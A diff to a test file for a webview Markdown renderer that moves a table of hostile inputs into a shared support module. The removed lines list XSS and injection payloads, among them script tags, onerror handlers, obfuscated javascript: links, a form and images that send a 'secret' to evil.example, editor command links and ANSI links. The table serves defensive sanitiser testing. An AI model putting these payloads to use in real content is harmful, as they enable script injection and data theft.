@@ -5,6 +5,7 @@ import { fileIn, targetOf } from '../../../webview/markdown/link';
 import { Markdown } from '../../../webview/markdown/markdown';
 import { all, type Blocks, grow, NO_BLOCKS } from '../../../webview/markdown/open-blocks';
 import { costRatio } from '../../support/cost';
+import { HOSTILE } from '../../support/hostile';
 import { tagsOf, textOf } from './support/markup';
 
 function render(text: string, live = false): string {
@@ -26,36 +27,6 @@ function assertInert(html: string): void {
     for (const attribute of Object.keys(attributes)) assert.ok(ATTRIBUTES.has(attribute), `${name} ${attribute} in ${html.slice(0, 300)}`);
   }
 }
-
-const HOSTILE: Readonly<Record<string, string>> = {
-  script: '<script>fetch("https://evil.example")</script>',
-  'script in a line': 'Hello <script>alert(1)</script> there',
-  'handler on an image': '<img src=x onerror=alert(1)>',
-  svg: '<svg onload="alert(1)"><script href="data:,alert(1)"/></svg>',
-  style: '<style>@import "https://evil.example/x.css"; body { background: url(https://evil.example) }</style>',
-  'style attribute': '<p style="background:url(https://evil.example)">x</p>',
-  iframe: '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  'meta and base': '<meta http-equiv="refresh" content="0;url=https://evil.example"><base href="https://evil.example">',
-  form: '<form action="https://evil.example"><input name=secret></form>',
-  'image that tells': '![secret](https://evil.example/?q=secret "t")',
-  'image by reference': '![secret][r]\n\n[r]: https://evil.example/x.png',
-  'image in a link': '[![x](https://evil.example/a.png)](https://evil.example/b)',
-  'data image': '![x](data:image/svg+xml;base64,PHN2Zz4=)',
-  'script link': '[click](javascript:alert(1)) [and](JaVaScRiPt:alert(1)) [this](java\tscript:alert(1))',
-  'entity script link': '[click](&#106;avascript:alert(1)) [x](javascript&colon;alert(1))',
-  'command link': '[run](command:workbench.action.terminal.new) [x](vscode://evil/x)',
-  'data link': '<data:text/html,<script>alert(1)</script>>',
-  'quotes in a title': '[x](https://a.example "\\" onclick=\\"alert(1)")',
-  'quotes in a language': '```"><img src=x onerror=alert(1)>\ncode\n```',
-  'markup in code': '`<script>alert(1)</script>`\n\n```html\n<script>alert(1)</script>\n```',
-  'markup in a table': '| <img src=x onerror=alert(1)> | b |\n|--|--|\n| <script>1</script> | [x](javascript:1) |',
-  'markup in a list': '- <b onclick=alert(1)>x</b>\n  1. <script>y</script>\n- [ ] <i>z</i>',
-  'markup in a heading': '# <script>alert(1)</script>\n\n> <iframe src=x>',
-  ansi: '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007link\u001b]8;;\u0007',
-  'comment and cdata': '<!-- hidden --> <![CDATA[ x ]]> <?php echo 1 ?>',
-  'unclosed everything': '<div <script <img src="',
-  'prototype names': '[x](__proto__) ```__proto__\nx\n```\n\n```constructor\nx\n```',
-};
 
 describe('Markdown from the model', () => {
   for (const [name, source] of Object.entries(HOSTILE)) {
